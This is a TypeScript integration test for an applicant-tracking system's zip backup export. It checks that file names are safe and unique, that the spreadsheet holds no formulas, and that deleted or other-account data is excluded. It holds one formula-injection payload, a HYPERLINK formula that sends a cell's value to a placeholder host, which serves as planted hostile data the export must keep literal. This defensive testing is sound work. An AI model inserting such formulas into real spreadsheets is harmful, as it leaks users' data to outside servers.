/**
 * The monthly backup (docs/EXPORTS.md#the-monthly-backup) on a seeded account with hostile data,
 * opened the way a user's tools open it: Info-ZIP, Python zipfile, the sheet XML. Real database,
 * real blob store.
 */
import fs from "node:fs";
import path from "node:path";
import { pipeline } from "node:stream/promises";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BASE_COLUMNS, streamCandidatesReport } from "../../../src/exports/candidates-report/index.js";
import { backupFormat } from "../../../src/exports/formats/backup/index.js";
import { foldKey } from "../../../src/exports/zip/safe-entry-name.js";
import { HOSTILE_JOB_TITLES } from "../../../src/seed/hostile.js";
import { SYSTEM_ACTOR } from "../../../src/services/write-context.js";
import { DIALECTS } from "../../support/dialects.js";
import { type PyEntry, pyInspect, unzipTest } from "../zip/zip-test-utils.js";
import {
  expectedRowKeys,
  extract,
  type FakeRun,
  type Fixture,
  latestCvs,
  readSheet,
  runFormat,
  type Sheet,
  seedFixture,
} from "./helpers.js";

const BIDI = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;
const RESUME = "Q"; // column 17, "Resume File"
const MISSING = "[missing from storage] ";

describe.each(DIALECTS)("backup format on %s", (dialect) => {
  let fx: Fixture;
  let run: FakeRun;
  let entries: PyEntry[];
  let sheet: Sheet;
  let deletedPerson: { id: string; sha: string };
  let archivedAppId: string;
  let missingCv: { personId: string; attachmentId: string; sha: string; fileName: string };

  beforeAll(async () => {
    fx = await seedFixture(dialect);
    const { db } = fx.database;
    const cvs = await latestCvs(db, fx.accountId);
    const apps = await db
      .selectFrom("applications")
      .select(["id", "person_id", "archived"])
      .where("account_id", "=", fx.accountId)
      .orderBy("id")
      .execute();
    const withCv = [...new Set(apps.map((a) => a.person_id))].filter((p) => cvs.has(p)).sort();
    // A deleted candidate (delete is permanent, docs/ARCHITECTURE.md#data-model) and a CV lost from
    // storage.
    const gone = withCv[withCv.length - 1]!;
    deletedPerson = { id: gone, sha: cvs.get(gone)!.sha256 };
    await fx.services.entities.delete({ accountId: fx.accountId, actor: SYSTEM_ACTOR }, "persons", gone);
    const lost = withCv[withCv.length - 2]!;
    const lostCv = cvs.get(lost)!;
    missingCv = { personId: lost, attachmentId: lostCv.id, sha: lostCv.sha256, fileName: lostCv.file_name };
    await fx.services.blobs.delete(lostCv.storage_key);
    archivedAppId = apps.find((a) => !a.archived && a.person_id !== gone)!.id;
    await db.updateTable("applications").set({ archived: true }).where("id", "=", archivedAppId).execute();

    run = await runFormat(fx, backupFormat, { timeZone: "Europe/Berlin" });
    const py = await pyInspect(run.artifacts[0]!.path);
    expect(py.testzip).toBeNull();
    entries = py.entries;
    const xlsx = path.join(run.dir, "Candidates.xlsx");
    await pipeline(
      (await import("node:child_process")).spawn("/usr/bin/unzip", [
        "-p",
        run.artifacts[0]!.path,
        "Candidates.xlsx",
      ]).stdout,
      fs.createWriteStream(xlsx),
    );
    sheet = readSheet(extract(xlsx));
  });

  afterAll(async () => {
    await fx?.cleanup();
  });

  it("saves one zip named after the account and the snapshot's local date; passes unzip -t", async () => {
    expect(run.artifacts).toHaveLength(1);
    const a = run.artifacts[0]!;
    // 2026-03-31T22:30Z is already April 1st in Berlin.
    expect(a).toMatchObject({ part: "backup", fileName: "Acme-Corp-backup-2026-04-01.zip" });
    expect(a.contentType).toBe("application/zip");
    await unzipTest(a.path);
    const last = run.progress[run.progress.length - 1]!;
    expect(last[0]).toBe(last[1]);
    expect(last[0]).toBe(sheet.rows.length);
  });

  it("holds exactly Candidates.xlsx and Resumes/ at its root; every name is safe and unique", () => {
    const names = entries.map((e) => e.name);
    expect(new Set(names.map((n) => n.split("/")[0]))).toEqual(new Set(["Candidates.xlsx", "Resumes"]));
    for (const n of names) {
      if (n === "Candidates.xlsx" || n === "Resumes/") continue;
      expect(n).toMatch(/^Resumes\/[^/]+\/[^/]+\/[^/]+$|^Resumes\/others\/[^/]+$/);
      expect(n).not.toMatch(BIDI);
      expect(n).not.toContain("\\");
      expect(n.split("/")).not.toContain("..");
      expect(n.normalize("NFC")).toBe(n);
      expect(Buffer.byteLength(n)).toBeLessThanOrEqual(200);
      expect(n).not.toMatch(/[\u0000-\u001F:*?"<>|]/);
    }
    expect(new Set(names.map(foldKey)).size).toBe(names.length);
    // Entry times are the snapshot's instant (UTC wall time in DOS format), not the wall clock.
    for (const e of entries) expect(e.date_time).toEqual([2026, 3, 31, 22, 30, 0]);
    expect(entries.every((e) => e.flag_bits & 0x800 || /^[\x20-\x7e]*$/.test(e.name))).toBe(true);
  });

  it("the sheet: the report's header, one row per application or lone person, no formulas", async () => {
    expect(sheet.header.slice(0, BASE_COLUMNS.length)).toEqual([
      ...["Candidate ID", "Candidate Name", "Candidate Email", "Candidate Phone", "Source Type", "Source"],
      ...["Referrer", "Archived?", "Opening ID", "Opening Title", "Stage", "Status", "Decision Reason"],
      ...["Assigned To", "Added Date", "Last Updated Date", "Resume File", "Tags"],
    ]);
    const labels = await fx.database.db
      .selectFrom("custom_field_definitions")
      .select("label")
      .where("account_id", "=", fx.accountId)
      .where("entity_type", "=", "person")
      .orderBy("position")
      .execute();
    expect(sheet.header.slice(BASE_COLUMNS.length)).toEqual(labels.map((l) => l.label));
    const keys = sheet.rows.map((r) => [r.get("A")?.value ?? "", r.get("I")?.value ?? ""]);
    expect(keys).toEqual(await expectedRowKeys(fx.database.db, fx.accountId));
    for (const xml of sheet.worksheetXml) expect(xml).not.toMatch(/<f[\s>/]/);
  });

  it("Resume File cells are the zip's CV entries, each holding its attachment's bytes", async () => {
    const cvs = await latestCvs(fx.database.db, fx.accountId);
    const zipped = new Map(entries.filter((e) => /^Resumes\/.+[^/]$/.test(e.name)).map((e) => [e.name, e]));
    const cells = sheet.rows
      .map((r) => r.get(RESUME)?.value ?? "")
      .filter((v) => v && !v.startsWith(MISSING));
    expect(new Set(cells)).toEqual(new Set(zipped.keys()));
    expect(cells.length).toBe(zipped.size); // one entry per row: a CV in every opening applied to
    for (const row of sheet.rows) {
      const personId = row.get("A")!.value;
      const cell = row.get(RESUME)?.value ?? "";
      const cv = cvs.get(personId);
      if (!cv) expect(cell).toBe("");
      else if (personId === missingCv.personId) expect(cell).toBe(MISSING + missingCv.fileName);
      else {
        expect(zipped.get(cell)!.sha256).toBe(cv.sha256);
        expect(zipped.get(cell)!.compress_type).toBe(0); // STORE: CVs are compressed already
        if (!row.get("I")) expect(cell.startsWith("Resumes/others/")).toBe(true);
      }
    }
  });

  it("the Resumes tree follows the DB: one folder per opening, current stage per application", async () => {
    const apps = await fx.database.db
      .selectFrom("applications")
      .innerJoin("pipeline_stages", "pipeline_stages.id", "applications.stage_id")
      .select(["applications.person_id", "applications.job_id", "pipeline_stages.name"])
      .where("applications.account_id", "=", fx.accountId)
      .execute();
    const stageOf = new Map(apps.map((a) => [`${a.person_id}/${a.job_id}`, a.name]));
    const folderOfJob = new Map<string, string>();
    const jobOfFolder = new Map<string, string>();
    const stageFolders = new Map<string, string>(); // "<opening>/<stage folder>" → stage name
    for (const row of sheet.rows) {
      const jobId = row.get("I")?.value;
      const cell = row.get(RESUME)?.value ?? "";
      if (jobId) expect(row.get("K")!.value).toBe(stageOf.get(`${row.get("A")!.value}/${jobId}`));
      if (!jobId || !cell.startsWith("Resumes/")) continue;
      const [, opening, stage] = cell.split("/") as [string, string, string];
      expect(opening).not.toBe("others");
      expect(folderOfJob.get(jobId) ?? opening).toBe(opening);
      expect(jobOfFolder.get(opening) ?? jobId).toBe(jobId);
      folderOfJob.set(jobId, opening);
      jobOfFolder.set(opening, jobId);
      const key = `${opening}/${stage}`;
      expect(stageFolders.get(key) ?? row.get("K")!.value).toBe(row.get("K")!.value);
      stageFolders.set(key, row.get("K")!.value);
      // A plain title keeps its name (Windows device names such as CON are plain too, but renamed).
      const title = row.get("J")?.value ?? "";
      if (/^[A-Za-z]+( [A-Za-z]+)*$/.test(title) && !/^(CON|PRN|AUX|NUL|COM\d|LPT\d)$/i.test(title))
        expect(opening).toMatch(/^[A-Za-z ]+( \(\d+\))?$/);
    }
    expect(folderOfJob.size).toBeGreaterThan(10);
  });

  it("hostile job titles stay literal in cells and become safe folder names", () => {
    const titles = new Set(sheet.rows.map((r) => r.get("J")?.value).filter(Boolean));
    const planted = HOSTILE_JOB_TITLES.filter((t) => titles.has(t));
    expect(planted.length).toBeGreaterThan(8);
    expect(titles.has('=HYPERLINK("http://x/?"&A1,"cv")')).toBe(true);
    const hostileRows = sheet.rows.filter((r) => planted.includes(r.get("J")?.value ?? ""));
    for (const r of hostileRows) {
      expect(r.get("J")!.t).toBe("inlineStr");
      const opening = (r.get(RESUME)?.value ?? "").split("/")[1];
      if (opening) expect(opening).not.toMatch(/^(CON|NUL|COM1|CONIN\$)(\.|$)|[. ]$|^\.|[\\/:*?"<>|]/i);
    }
  });

  it("leaves the deleted candidate out, keeps the archived application, never another account", async () => {
    const ids = new Set(sheet.rows.map((r) => r.get("A")!.value));
    expect(ids.has(deletedPerson.id)).toBe(false);
    expect(entries.some((e) => e.sha256 === deletedPerson.sha)).toBe(false);
    const app = await fx.database.db
      .selectFrom("applications")
      .select(["person_id", "job_id"])
      .where("id", "=", archivedAppId)
      .executeTakeFirstOrThrow();
    const row = sheet.rows.find(
      (r) => r.get("A")!.value === app.person_id && r.get("I")?.value === app.job_id,
    );
    expect(row?.get("H")?.value).toBe("Yes");
    const others = await fx.database.db
      .selectFrom("persons")
      .select("id")
      .where("account_id", "=", fx.otherAccountId)
      .execute();
    expect(others.length).toBeGreaterThan(0);
    for (const o of others) expect(ids.has(o.id)).toBe(false);
    const otherShas = await fx.database.db
      .selectFrom("attachments")
      .select("sha256")
      .where("account_id", "=", fx.otherAccountId)
      .execute();
    const zippedShas = new Set(entries.map((e) => e.sha256));
    for (const s of otherShas) expect(zippedShas.has(s.sha256)).toBe(false);
  });

  it("a CV missing from storage: the backup succeeds, warns, marks the cell, leaves no entry", () => {
    expect(run.warnings.length).toBeGreaterThan(0);
    expect(run.warnings.every((w) => w.id === missingCv.attachmentId && w.entity === "attachment")).toBe(
      true,
    );
    expect(run.warnings[0]!.reason).toMatch(/missing/);
    expect(entries.some((e) => e.sha256 === missingCv.sha)).toBe(false);
    const rows = sheet.rows.filter((r) => r.get("A")!.value === missingCv.personId);
    expect(rows.length).toBe(run.warnings.length);
    for (const w of run.warnings) expect(w.path).toMatch(/^Resumes\//);
  });

  it("its sheet equals the standalone report's, cell for cell (but the missing-file marker)", async () => {
    const file = path.join(run.dir, "report.xlsx");
    await fx.database.readSnapshot(async (db) => {
      const stream = streamCandidatesReport(db, fx.accountId, {
        snapshotAt: new Date("2026-03-31T22:30:00Z"),
      });
      await pipeline(stream, fs.createWriteStream(file));
    });
    const report = readSheet(extract(file));
    expect(report.header).toEqual(sheet.header);
    expect(report.rows.length).toBe(sheet.rows.length);
    report.rows.forEach((cells, i) => {
      const ours = sheet.rows[i]!;
      expect([...cells.keys()]).toEqual([...ours.keys()]);
      for (const [c, cell] of cells) {
        if (c === RESUME && ours.get(c)!.value.startsWith(MISSING)) expect(cell.value).toMatch(/^Resumes\//);
        else expect(ours.get(c)!.raw, `${c}${i + 2}`).toBe(cell.raw);
      }
    });
  });

  it("is stable: the same data exported twice gives the same entries and bytes", async () => {
    const again = await runFormat(fx, backupFormat, { timeZone: "Europe/Berlin" });
    const py = await pyInspect(again.artifacts[0]!.path);
    expect(py.entries.map((e) => e.name)).toEqual(entries.map((e) => e.name));
    expect(again.artifacts[0]!.sha256).toBe(run.artifacts[0]!.sha256);
  });
});
